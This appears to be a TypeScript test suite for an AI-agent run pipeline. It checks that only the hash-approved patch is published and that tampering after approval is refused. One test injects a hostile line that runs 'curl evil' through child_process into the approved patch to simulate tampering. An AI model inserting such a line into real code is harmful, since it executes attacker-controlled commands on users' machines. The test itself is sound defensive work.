import { strict as assert } from 'node:assert';
import { contentHash, sha256Hex } from '../../../../src/core/hash';
import { runLine } from '../../../../src/core/run/engine';
import { OutputRefusedError } from '../../../../src/core/run/errors';
import { RUN_LAYOUT } from '../../../../src/core/run/layout';
import type { OutputRequest } from '../../../../src/core/run/ports';
import { FakeOutput, fakePorts, FIX_PATCH, MemoryJournal } from './fakes';
import { inputs } from './inputs';

/** A publisher that checks the hash as GitOutputPublisher does (the real one is tested on real git). */
class CheckingOutput extends FakeOutput {
  killOnce = false;
  override async publish(r: OutputRequest) {
    if (this.killOnce) {
      this.killOnce = false;
      throw new Error('KILLED');
    }
    if (sha256Hex(r.patch) !== r.approvedPatchSha256) throw new OutputRefusedError('not the one the output gate approved');
    return super.publish(r);
  }
}

describe('core/run: what ships is what was approved', () => {
  it('the implement diff is taken only after every environment of the run is removed', async () => {
    const f = fakePorts();
    const order: string[] = [];
    const diff = f.ws.diff.bind(f.ws);
    f.ws.diff = async () => {
      order.push('diff');
      return diff();
    };
    const cleanup = f.environments.cleanup.bind(f.environments);
    f.environments.cleanup = async () => {
      order.push('cleanup');
      return cleanup();
    };
    const run = f.agents.run.bind(f.agents);
    f.agents.run = async (task) => {
      if (task.role === 'implement') order.push('implement');
      return run(task);
    };
    const out = await runLine(inputs(), f.ports);
    assert.equal(out.terminal.state, 'PR_READY');
    const i = order.indexOf('implement');
    assert.deepEqual(order.slice(i, i + 3), ['implement', 'cleanup', 'diff']);
  });

  it('the publisher gets the approved patch file and the hash the output gate approved; the evidence carries it', async () => {
    const f = fakePorts();
    const out = await runLine(inputs(), f.ports);
    assert.equal(out.terminal.state, 'PR_READY');
    const req = f.output.published[0]!;
    assert.equal(f.artifacts.files.get(RUN_LAYOUT.approvedPatch), FIX_PATCH);
    assert.equal(req.patch, FIX_PATCH);
    assert.equal(req.approvedPatchSha256, sha256Hex(FIX_PATCH));
    assert.equal(req.baseCommit, 'a'.repeat(40));
    assert.equal(req.evidenceSha256, sha256Hex(f.artifacts.files.get(RUN_LAYOUT.evidenceJson)!), "the note's trailer will name the evidence.json written");
    assert.equal(out.evidence.diff!.patchSha256, req.approvedPatchSha256);
    const last = out.evidence.gates.at(-1)!;
    assert.equal(last.gateId, 'decide.after.4');
    assert.equal(last.contentHash, contentHash({ terminal: out.terminal, patch: out.evidence.diff!.patch }), 'the last gate approved exactly that patch');
  });

  it('an approved patch file edited after approval is refused at publish; journal and evidence stay as recorded', async () => {
    const output = new CheckingOutput();
    output.killOnce = true;
    const first = fakePorts({ output });
    await assert.rejects(runLine(inputs(), first.ports), /KILLED/);
    const records = [...(first.ports.journal as MemoryJournal).records];
    assert.equal(records.at(-1)!.event.type, 'run/terminal');
    const evidence = first.artifacts.files.get(RUN_LAYOUT.evidenceJson);
    first.artifacts.files.set(RUN_LAYOUT.approvedPatch, FIX_PATCH.replace('+fixed', '+fixed\n+require("child_process").exec("curl evil")'));

    const second = fakePorts({ journal: new MemoryJournal(records), artifacts: first.artifacts, output });
    second.ws.patch = first.ws.patch;
    await assert.rejects(runLine(inputs(), second.ports), (e: Error) => e instanceof OutputRefusedError);
    assert.equal(output.published.length, 0, 'nothing shipped');
    const after = (second.ports.journal as MemoryJournal).records;
    assert.deepEqual(after.slice(0, records.length), records, 'the recorded journal is unchanged');
    assert.ok(after.slice(records.length).every((r) => r.event.type === 'note'), 'only notes were added (the resume, the refusal)');
    assert.match((after.at(-1)!.event as { message: string }).message, /^output refused: /);
    assert.equal(first.artifacts.files.get(RUN_LAYOUT.evidenceJson), evidence);

    // Put back as approved, the run resumes and ships.
    first.artifacts.files.set(RUN_LAYOUT.approvedPatch, FIX_PATCH);
    const third = fakePorts({ journal: new MemoryJournal(after), artifacts: first.artifacts, output });
    third.ws.patch = first.ws.patch;
    const out = await runLine(inputs(), third.ports);
    assert.equal(out.output?.branch, 'shopfloor/20261121-200000-abcdef');
    assert.equal(output.published[0]!.patch, FIX_PATCH);
    assert.equal(output.published[0]!.evidenceSha256, sha256Hex(evidence!), 'a resumed run names the evidence.json the journal bound');
  });
});
